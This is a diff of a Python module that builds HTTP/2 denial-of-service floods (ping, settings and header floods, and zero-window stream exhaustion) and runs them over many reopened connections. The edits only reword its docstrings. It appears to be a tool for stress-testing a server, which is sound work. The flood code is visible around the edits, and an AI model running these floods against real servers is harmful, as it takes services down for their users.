@@ -1,6 +1,8 @@
-"""What clients of HTTP/2 send to wear a server out: little for them, much for it. FLOODS has the frames of each, by name.
+"""The frames that HTTP/2 clients send to exhaust a server: cheap for them, expensive for it. FLOODS
+has those of each attack, by name.
 
-attack() runs a flood from CONNECTIONS connections at a time, each anew as soon as the server ends it.
+attack() runs a flood on CONNECTIONS connections at a time, and reopens each when the server closes
+it.
 """
 
 import contextlib
@@ -20,7 +22,7 @@ OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b"")
 
 
 def literal(name, value):
-    """A field of HPACK, for names and values of up to 126 octets."""
+    """Returns a field in HPACK, for names and values of up to 126 octets."""
     return bytes([0, len(name)]) + name + bytes([len(value)]) + value
 
 
@@ -29,7 +31,7 @@ def get(path):
 
 
 def headers(n, block, flags=END_HEADERS | END_STREAM):
-    """The request of stream n, counted from 0."""
+    """Returns the request of stream n, counted from 0."""
     return frame(HEADERS, flags, 2 * n + 1, block)
 
 
@@ -38,7 +40,7 @@ def window(size):
 
 
 def once(first, then):
-    """The frames of a flood with another beginning."""
+    """Returns a function for the frames of a flood whose first frames differ."""
     return lambda n: first if n == 0 else then(n)
 
 
@@ -46,7 +48,7 @@ SMALL, LARGE, NONE = get(b"/1k"), get(b"/10m"), get(b"")
 STREAMS = 100
 OPEN_STREAMS = window(0) + b"".join(headers(n, LARGE) for n in range(STREAMS))
 
-# name: the frames that are sent in turn, from number 0 on
+# name: the frames that are sent in turn, numbered from 0
 FLOODS = {
     "pings": lambda n: frame(PING, 0, 0, b"12345678"),
     "settings": lambda n: frame(SETTINGS, 0, 0, b""),
@@ -70,12 +72,12 @@ FLOODS = {
 
 
 def octets(name):
-    """All that a connection sends."""
+    """Returns all octets that a connection sends."""
     return OPENING + b"".join(FLOODS[name](n) for n in range(FRAMES))
 
 
 def attack(port, name, source):
-    """Runs in a process of its own. Who has sent everything waits for REST_S."""
+    """Runs a flood, in its own process. A connection that has sent everything waits for REST_S."""
     data, poll, state = memoryview(octets(name)), select.epoll(), {}
 
     def connect():
